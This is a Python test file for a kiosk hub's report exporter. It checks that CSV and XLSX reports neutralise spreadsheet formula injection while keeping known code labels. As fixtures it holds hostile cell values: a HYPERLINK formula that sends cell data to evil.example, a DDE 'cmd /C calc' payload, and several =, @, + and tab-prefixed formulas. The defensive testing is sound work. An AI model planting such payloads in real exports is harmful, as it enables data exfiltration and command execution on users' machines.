"""Exports cannot carry formulas: values a kiosk or bundle supplied (help-point names, codes this
version does not know, reasons) come out of the CSV as text no spreadsheet runs, and no XLSX cell
is a formula, while known codes are still shown by their labels."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
from hypothesis import given, settings, strategies as st

from kiosk.hub.devices import make_code, redeem_code
from kiosk.hub.ingest import ingest_batch
from kiosk.hub.report_export import write_report
from kiosk.hub.report_layout import FORMULA_STARTS, safe_text
from kiosk.core.ids import uuid7
from kiosk.reporting.figures import value_label

HOSTILE_POINT = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
HOSTILE = {"age_band": "=1+2", "gender": "+cmd|' /C calc'!A0", "disability": "@SUM(A1:A9)",
           "satisfaction": "-2+3", "service": '=HYPERLINK("http://x")',
           "unsolved_reason": "\t=1+1"}
PERIOD = (date(2025, 3, 1), date(2025, 3, 31))


def _seed(engine) -> None:
    device = uuid7()
    redeem_code(engine, make_code(engine, HOSTILE_POINT)["code"], device)
    hostile = {"id": uuid7(), "device_id": device, "revision": 1,
               "started_at": "2025-03-03T02:00:00.000+00:00", "duration_s": 300,
               **{k: HOSTILE[k] for k in ("age_band", "gender", "disability", "satisfaction")},
               "services": [{"service": HOSTILE["service"], "outcomes": ["not_solved"],
                             "unsolved_reason": HOSTILE["unsolved_reason"]},
                            {"service": "vneid", "outcomes": ["installed"]}]}
    known = {"id": uuid7(), "device_id": device, "revision": 1, "age_band": "60-74",
             "started_at": "2025-03-04T02:00:00.000+00:00", "services": []}
    ingest_batch(engine, device, [{"seq": n, "record_type": "assistance_session", "record": r}
                                  for n, r in enumerate([hostile, known], 1)])


def _unsafe(text: str) -> bool:
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def test_the_csv_carries_no_cell_a_spreadsheet_would_run(hub_engine, tmp_path):
    _seed(hub_engine)
    path = tmp_path / "report.csv"
    write_report(hub_engine, path, fmt="csv", start=PERIOD[0], end=PERIOD[1], point=None)
    cells = [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")))
             for cell in row]
    assert not [cell for cell in cells if _unsafe(cell)]
    assert "'" + HOSTILE_POINT in cells  # shown, as text
    assert any(cell.startswith("'=1+2") for cell in cells)
    assert value_label("age_band", "60-74") in cells  # a known code: its label


def test_no_xlsx_cell_is_a_formula(hub_engine, tmp_path):
    _seed(hub_engine)
    path = tmp_path / "report.xlsx"
    write_report(hub_engine, path, fmt="xlsx", start=PERIOD[0], end=PERIOD[1], point=None)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist()
                  if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(path)
    texts = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows()
               for cell in row)
    assert not [text for text in texts if _unsafe(text)]
    assert "'" + HOSTILE_POINT in texts


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_safe_text_never_starts_a_formula_and_keeps_the_text(text):
    made = safe_text(text)
    assert not _unsafe(made)
    assert made in (text, "'" + text)


def test_ordinary_text_is_left_as_it_is():
    for text in ("Nhà văn hóa tổ 5", "60-74", "Không nhận được mã OTP", "(Cài ứng dụng)", ""):
        assert safe_text(text) == text
